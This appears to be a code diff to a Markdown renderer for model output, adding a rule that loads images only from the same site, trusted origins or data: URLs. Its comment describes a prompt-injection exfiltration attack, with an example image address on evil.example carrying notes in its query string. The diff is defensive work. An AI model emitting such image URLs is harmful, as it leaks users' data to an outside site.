@@ -20,7 +20,10 @@
  *   its own stacking context), so a case missed here still cannot leave its bubble.
  *
  * Links open in a new tab without the opener; whether a click on one to another site asks
- * first is the page's choice (`lib/links.ts`).
+ * first is the page's choice (`lib/links.ts`). Images load only from this site, the sites
+ * the page trusts, and `data:`: an image loads without a click, so an address the model wrote
+ * (`https://evil.example/x.png?notes=...`, put there by a prompt injection) would carry what
+ * it holds to another site unasked. Any other image is a link to it instead.
  */
 import createDOMPurify, { type Config, type DOMPurify } from "dompurify";
 import { Marked, Tokenizer, type Tokens } from "marked";
@@ -69,6 +72,13 @@ const marked = new Marked({
     },
   },
   renderer: {
+    image({ href, title, text }: Tokens.Image): string | false {
+      const url = imageUrl(href);
+      if (url === null || loads(url)) return false; // as marked draws it
+      const label = escapeHtml(`Image: ${text || url.host}`);
+      const titled = title ? ` title="${escapeHtml(title)}"` : "";
+      return `<a href="${escapeHtml(url.href)}"${titled}>${label}</a>`;
+    },
     html({ text }: Tokens.HTML | Tokens.Tag): string {
       return modelHtml(text);
     },
@@ -92,6 +102,21 @@ function modelHtml(html: string): string {
   return out;
 }
 
+/** The other sites images may load from, while {@link renderMarkdown} runs. */
+let imageOrigins: readonly string[] = [];
+
+function imageUrl(href: string): URL | null {
+  try {
+    return new URL(href, location.href);
+  } catch {
+    return null;
+  }
+}
+
+function loads(url: URL): boolean {
+  return url.protocol === "data:" || url.origin === location.origin || imageOrigins.includes(url.origin);
+}
+
 let instance: DOMPurify | null = null;
 
 function purifier(): DOMPurify {
@@ -113,9 +138,15 @@ export function sanitizeHtml(html: string): string {
   return purifier().sanitize(html, POLICY);
 }
 
-/** Render Markdown (GFM) to sanitised HTML. */
-export function renderMarkdown(markdown: string): string {
-  return sanitizeHtml(marked.parse(markdown) as string);
+/** Render Markdown (GFM) to sanitised HTML; images load from this site, `data:` and
+ * `trustedOrigins` only. */
+export function renderMarkdown(markdown: string, trustedOrigins: readonly string[] = []): string {
+  imageOrigins = trustedOrigins;
+  try {
+    return sanitizeHtml(marked.parse(markdown) as string);
+  } finally {
+    imageOrigins = [];
+  }
 }
 
 function escapeHtml(text: string): string {
